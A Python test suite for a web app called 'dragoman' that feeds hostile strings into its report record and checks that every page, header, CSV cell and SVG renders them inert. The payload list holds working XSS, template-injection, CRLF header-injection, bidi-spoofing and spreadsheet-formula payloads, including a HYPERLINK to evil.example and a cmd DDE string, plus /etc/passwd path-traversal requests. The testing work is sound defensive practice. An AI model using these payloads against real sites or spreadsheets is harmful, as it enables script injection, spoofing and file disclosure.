"""Hostile reports in the reading room: whatever they say, wherever it is shown, nothing of it acts.

The states and people named here are the register's; everything that reports say of them here is made up to do harm.
"""

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from browser import chromium, served
from conftest import RecordBuilder, attribute, membership, mention, occupancy
from spoken_rows import argument, event, event_id, statement, statement_id
from starlette.testclient import TestClient
from web_rows import open_client

import dragoman
from dragoman.web.app import create_app
from dragoman.web.guard import HEADERS
from dragoman.web.pages import PAGES
from dragoman.web.room import Room

T = TypeVar("T")
MARK = "zq9"
# What acts in HTML, in an attribute, in a template, in a spreadsheet, in a header, on a terminal, or turns text round.
HOSTILE = {
    "markup": f'"><script>alert("{MARK}")</script></title></q><img src=x onerror=alert(1)>',
    "drawing": f"<svg/onload=alert('{MARK}')><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "template": f"{{{{ 7*7 }}}}{{% if 1 %}}{MARK}{{% endif %}}${{7*7}}<%= 7*7 %>",
    "address": f"javascript:alert('{MARK}')",
    "formula": f'=HYPERLINK("http://evil.example/{MARK}","x")',
    "other formula": f"\t@SUM(1+1)*cmd|' /C {MARK}'!A0",
    "wide formula": f"＝1+1{MARK}",
    "header": f"{MARK}\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>alert(1)</script>",
    "direction": f"{MARK}\u202egpj.exe\u2066\u200f abc",
    "control": f"{MARK}\x00\x08\x1b[2J\x7f\u2028\u0085 abc",
    "path": f"../../../../etc/{MARK}",
    "length": MARK + "Donaudampfschifffahrt" * 200,
}
TURNING = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
STEERING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
FORMULA = re.compile("[=+\\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# What the pages are made of: what is beyond comes from a report.
TAGS = frozenset(
    (  # noqa: SIM905 — one name a line says no more
        "a article aside b blockquote body br button caption circle cite code col colgroup datalist dd desc details "
        "div dl dt "
        "ellipse em fieldset figcaption figure footer form g h1 h2 h3 h4 head header html i img input label legend li "
        "line link main mark meta nav noscript ol optgroup option output p path picture polygon polyline q rect "
        "script search section select small source span strong sub summary sup svg table tbody td text tfoot th thead "
        "time title tr ul"
    ).split()
)
MOST_PAGES = 160


def spoilt(make: Callable[[str, str], T], **values: object) -> Callable[[str, str], T]:
    """Rows with other values in some columns."""
    return lambda document, reading: replace(make(document, reading), **values)  # type: ignore[type-var]


def add_hostile(builder: RecordBuilder, name: str, words: str, published: str) -> None:
    text = f"{words} fin"

    def deed(document: str) -> str:
        return event_id(document, "ACCUSE", words)

    def says(document: str) -> str:
        return statement_id(document, words)

    told = {"trigger_text": words, "said_by": words, "via": (words,)}
    builder.add(
        f"{name}\n{words[:60]}.txt",
        published=published, outlet=words, title=words, text=text,
        memberships=[
            spoilt(membership("BLR", "CSTO", "full", published), **told),
            spoilt(membership(words, words, "full", published), **told),
        ],
        occupancies=[spoilt(occupancy(words, "president", "BLR", published), **told)],
        attributes=[attribute("BLR", "founded", words), attribute(words, "founded", "1992")],
        statements=[spoilt(statement("RUS", words, date=published, text=text), cue_text=words, via=(words,))],
        events=[
            spoilt(
                event("ACCUSE", ["RUS"], ["UKR"], date=published, sentence=words, trigger=words, text=text),
                place_text=words, about=(words,), via=(words,),
            ),
        ],
        arguments=[
            argument(deed, "actor", "fin", "RUS", "RUS", text=text),
            argument(deed, "recipient", "fin", "UKR", "UKR", text=text),
            argument(says, "speaker", "fin", "RUS", "RUS", text=text),
        ],
        mentions=[spoilt(mention(f"~{words[:20]}", text=text), reason=words)],
    )  # fmt: skip


@pytest.fixture(scope="module")
def record(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Hostile reports that were read, and rows that no reading would let through."""
    folder = tmp_path_factory.mktemp("hostile")
    reports = folder / "dossier"
    reports.mkdir()
    named = reports / '<img src=x onerror=alert(1)> ="&#.html'
    named.write_text(
        f"""<html><head><title>{HOSTILE["template"]} &lt;script&gt;alert(1)&lt;/script&gt;</title>
        <meta name="author" content="{HOSTILE["formula"].replace('"', "&quot;")}"></head><body><article>
        <h1>&lt;script&gt;alert("{MARK}")&lt;/script&gt;</h1>
        <p>MINSK, 25 juin 2024 – La Biélorussie est membre de l'OTSC, a déclaré le ministre russe des Affaires
        étrangères, Sergueï Lavrov&lt;img src=x onerror=alert(1)&gt;. « &lt;script&gt;alert(1)&lt;/script&gt; La Russie
        condamne {HOSTILE["direction"]} l'Ukraine », a-t-il ajouté.</p></article></body></html>""",
        encoding="utf-8",
    )
    dragoman.read(reports, to=folder / "record")
    builder = RecordBuilder(folder / "record")
    for number, (name, words) in enumerate(HOSTILE.items(), start=1):
        add_hostile(builder, name, words, f"2024-06-{number:02}")
    return builder.write()


@pytest.fixture(scope="module", params=["en", "fr"])
def client(record: Path, request: pytest.FixtureRequest) -> Iterator[TestClient]:
    with open_client(record, request.param) as client:
        yield client


class Elements(HTMLParser):
    """The elements of a page, and where they lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.links: list[str] = []
        self.text: list[str] = []
        self._in_script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = dict(attributes)
        self._in_script = tag == "script"
        if tag not in TAGS or MARK in tag:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not (given.get("src") or "").startswith("/static/"):
            self.faults.append("a script of its own")
        for name, value in attributes:
            if name.startswith("on") or name in ("style", "srcdoc") or MARK in name:
                self.faults.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "srcset", "formaction", "xlink:href", "data", "poster"):
                if not re.match(r"[/#?]|https?://", value or "#") or (value or "").startswith("//"):
                    self.faults.append(f"{name}={value!r}")
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.faults.append(f"script: {data[:40]!r}")
        self.text.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


def crawl(client: TestClient) -> Iterator[tuple[str, Any]]:
    """Every page that links lead to, each kind of page several times, with its files."""
    waiting = ["/", *(page.path for page in PAGES if "{" not in page.path), "/api/openapi.json"]
    waiting += ["/organisation/CSTO?on=2024-06-05", "/network?on=2024-06-12", "/chart/pairs.svg"]
    seen: set[str] = set()
    while waiting and len(seen) < MOST_PAGES:
        address = waiting.pop(0)
        if address in seen:
            continue
        seen.add(address)
        answer = client.get(address)
        yield address, answer
        if not answer.headers["content-type"].startswith("text/html"):
            continue
        path, _, query = address.partition("?")
        if path != "/" and not path.startswith("/static"):
            waiting[:0] = [f"{path}{ending}{'?' + query if query else ''}" for ending in (".json", ".csv")]
        found = [link.partition("#")[0] for link in Elements(answer.text).links if link.startswith("/")]
        waiting += dict.fromkeys(link for link in found if link and link not in seen)


@pytest.fixture(scope="module")
def answers(client: TestClient) -> dict[str, Any]:
    return dict(crawl(client))


def by_type(answers: dict[str, Any], kind: str) -> dict[str, Any]:
    found = {path: each for path, each in answers.items() if each.headers["content-type"].startswith(kind)}
    assert found
    return found


def test_every_kind_of_page_was_reached(answers: dict[str, Any]) -> None:
    reached = {urlsplit(path).path.split("/")[1] for path, answer in answers.items() if answer.status_code == 200}
    assert {page.path.split("/")[1] for page in PAGES} <= reached
    assert any(MARK in answer.text for answer in answers.values())
    assert {answer.status_code for answer in answers.values()} <= {200, 303, 404, 422}


def test_no_header_comes_from_a_report(answers: dict[str, Any]) -> None:
    for path, answer in answers.items():
        assert answer.headers.items() >= HEADERS.items(), path
        assert "set-cookie" not in answer.headers
        for name, value in answer.headers.items():
            assert not STEERING.search(value) and (MARK not in value or name == "location"), path


def test_no_element_and_no_link_comes_from_a_report(answers: dict[str, Any]) -> None:
    for path, answer in by_type(answers, "text/html").items():
        found = Elements(answer.text)
        assert found.faults == [], path
        assert "49" not in {word for word in " ".join(found.text).split() if MARK in word}, path


def test_nothing_turns_the_text_round_or_steers(answers: dict[str, Any]) -> None:
    for path, answer in by_type(answers, "text/html").items():
        assert not TURNING.search(answer.text), path
        assert not STEERING.search(answer.text), path


def test_no_cell_is_a_formula(answers: dict[str, Any]) -> None:
    hostile = 0
    for path, answer in by_type(answers, "text/csv").items():
        for row in csv.reader(io.StringIO(answer.text, newline="")):
            for cell in row:
                hostile += MARK in cell
                assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), (path, cell)
                assert not STEERING.search(cell), (path, cell)
    assert hostile


def test_files_are_what_they_say_and_hold_the_words_as_they_are(answers: dict[str, Any]) -> None:
    told = "".join(json.dumps(answer.json()) for answer in by_type(answers, "application/json").values())
    assert json.dumps(HOSTILE["markup"]) in told, "JSON is not changed: it is data"


def test_images_hold_no_more_than_shapes_and_words(answers: dict[str, Any]) -> None:
    for path, answer in by_type(answers, "image/svg+xml").items():
        for element in ElementTree.fromstring(answer.text).iter():
            tag = element.tag.rpartition("}")[2]
            assert tag not in ("script", "foreignObject", "iframe", "image", "use", "animate", "set"), path
            assert not [name for name in element.attrib if name.startswith("on") or name.endswith("href")], path


def test_no_path_leads_out_of_the_record(client: TestClient) -> None:
    for name in ("..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/pyproject.toml", "..%5c..%5cpyproject.toml", "%00"):
        for start in ("/document/", "/static/", "/actor/", "/fact/", "/organisation/", "/chart/"):
            answer = client.get(start + name)
            assert answer.status_code in (404, 422), start + name
            assert "root:" not in answer.text and "[project]" not in answer.text


@pytest.fixture(scope="module")
def served_record(record: Path) -> Iterator[str]:
    with served(record) as address:
        yield address


def test_a_browser_runs_fetches_and_reports_nothing(record: Path, served_record: str) -> None:
    room = Room(record)
    with chromium() as browser:
        page = browser.new_page()
        acted: list[str] = []
        page.on("dialog", lambda dialog: (acted.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda said: acted.append(said.text) if said.type == "error" else None)
        page.on("pageerror", lambda error: acted.append(str(error)))
        page.on("request", lambda asked: None if asked.url.startswith(served_record) else acted.append(asked.url))
        client = TestClient(create_app(room, hosts=["testserver"]), headers={"accept": "text/html"})
        listed = client.get("/api/documents?rows=50").json()["items"]
        paths = [page.path for page in PAGES if "{" not in page.path]
        paths += ["/actor/BLR", "/actor/RUS", "/organisation/CSTO?on=2024-06-05", "/network?on=2024-06-12"]
        paths += [f"/document/{each['id']}" for each in listed]
        for path in paths:
            status = page.goto(served_record + path)
            assert status is not None and status.status in (200, 404), path
            page.wait_for_load_state("networkidle")
            assert page.evaluate("document.title").endswith("Dragoman"), path
        assert [each for each in acted if "404 (Not Found)" not in each] == []
    room.close()
